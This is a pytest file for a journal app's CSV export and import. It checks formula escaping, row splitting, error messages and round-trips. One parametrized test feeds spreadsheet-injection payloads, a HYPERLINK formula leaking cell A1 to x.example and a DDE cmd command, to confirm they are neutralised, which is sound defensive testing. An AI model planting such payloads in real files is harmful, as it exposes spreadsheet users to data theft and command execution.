"""CSV: a row an entry, every cell safe in a spreadsheet, read back by this app."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from journal.formats import csv as csv_format
from journal.models import Change, Entry
from tests.journal.importing import done
from tests.records import find

from .conftest import body, export, round_trip, upload


def test_csv_has_a_row_per_entry(alice_client, records):
    text = body(alice_client.get("/journal/export/csv/")).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["day"], r["title"], r["focus"]) for r in rows] == [
        ("2026-11-01", "A long walk", "Jealousy")
    ]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"Click")', "'=HYPERLINK("),
        ("=cmd|' /C calc'!A0", "'=cmd|"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTabbed", "'\tTabbed"),
    ],
)
def test_csv_cells_never_start_a_formula(alice_client, alice, text, cell):
    change = Change.objects.create(user=alice, name=text)
    Entry.objects.create(user=alice, day=dt.date(2026, 11, 1), title=text, body=text, focus=change)
    rows = list(csv.reader(io.StringIO(body(alice_client.get("/journal/export/csv/")).decode())))
    title, focus, entry_body = rows[1][1], rows[1][3], rows[1][4]
    for value in (title, focus):
        assert value.startswith(cell), value
        assert value[1:] == text  # the text itself is kept, after the quote
    assert entry_body.startswith(cell) and entry_body[1:] == text


def test_a_carriage_return_in_a_cell_never_splits_a_row(alice_client, alice):
    """Line endings are \n in every export; a CR inside a title becomes one, quoted."""
    Entry.objects.create(user=alice, day=dt.date(2026, 11, 1), title="\rReturn", body="a\rb")
    rows = list(csv.reader(io.StringIO(body(alice_client.get("/journal/export/csv/")).decode())))
    assert len(rows) == 2
    assert rows[1][1] == "\nReturn" and rows[1][4] == "a\nb"


def test_plain_csv_cells_are_unchanged():
    assert csv_format.spreadsheet_safe("A calm walk") == "A calm walk"
    assert csv_format.spreadsheet_safe(4) == 4
    assert csv_format.spreadsheet_safe("") == ""


def test_it_round_trips_into_another_account_and_the_same(
    alice_client, bob_client, alice, bob, written
):
    round_trip(alice_client, bob_client, alice, bob, "csv", "x.csv")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"day,title\n2026-01-01,\n", "Entry 1 (row 2): &#x27;title&#x27; is empty"),
        (b"day,title\n2026-13-01,x\n", "Entry 1 (row 2): the date"),
        (b"day,title\n2026-01-01,a,b\n", "Entry 1 (row 2) has more cells than the header"),
        (b"title\nx\n", "needs at least the columns day and title"),
        (b"day,title,timezone\n2026-01-01,a,Nowhere/Land\n", "Entry 1: unknown time zone"),
    ],
)
def test_bad_rows_are_named(alice_client, alice, content, message):
    response = upload(alice_client, content, "x.csv")
    assert message in response.text
    assert not Entry.objects.exists()


@pytest.mark.parametrize(
    "text", ["'=already quoted", "''", "'plain quote", "=formula", "'", "no quote"]
)
def test_a_leading_quote_is_escaped_once_and_undone_once(
    alice_client, bob_client, bob, alice, text
):
    Entry.objects.create(user=alice, day=dt.date(2026, 11, 1), title=text, body=text)
    assert done(upload(bob_client, export(alice_client, "csv"), "entries.csv"))
    theirs = Entry.objects.get(user=bob)
    assert (theirs.title, theirs.body) == (text, text)


def test_an_entry_without_a_heading_comes_back_without_one(alice_client, bob_client, bob, alice):
    Entry.objects.create(
        user=alice, day=dt.date(2026, 11, 1), title="First line", body="First line\nmore",
        heading=False,
    )  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(export(alice_client, "csv").decode("utf-8-sig"))))
    assert rows[0]["heading"] == "no"
    assert done(upload(bob_client, export(alice_client, "csv"), "entries.csv"))
    assert Entry.objects.get(user=bob).heading is False


def test_a_spanish_account_exports_english_headers_and_reads_spanish_ones(alice_client, alice):
    alice.language = "es"
    alice.save(update_fields=["language"])
    Entry.objects.create(user=alice, day=dt.date(2026, 11, 1), title="Paseo", starred=True)
    header = export(alice_client, "csv").decode("utf-8-sig").splitlines()[0]
    assert header.startswith("day,title,mood,focus,body")
    spanish = "día,título,destacada,etiquetas\n2026-11-02,Lago,sí,calma\n"
    assert done(upload(alice_client, spanish.encode(), "entradas.csv"))
    lake = find(Entry.objects.filter(user=alice), title="Lago")
    assert lake.starred and [t.name for t in lake.tags.all()] == ["calma"]


def test_links_to_photos_it_cannot_bring_become_their_description(alice_client, alice):
    content = (
        "day,title,body\n"
        '2026-11-01,Lake,"Calm\n![the lake](/journal/photos/abc123/full/)\n\n'
        '![](/journal/photos/abc123/thumb/)\n\nStill."\n'
    )
    assert done(upload(alice_client, content.encode(), "entries.csv"))
    assert Entry.objects.get(user=alice).body == "Calm\nthe lake\n\nStill."
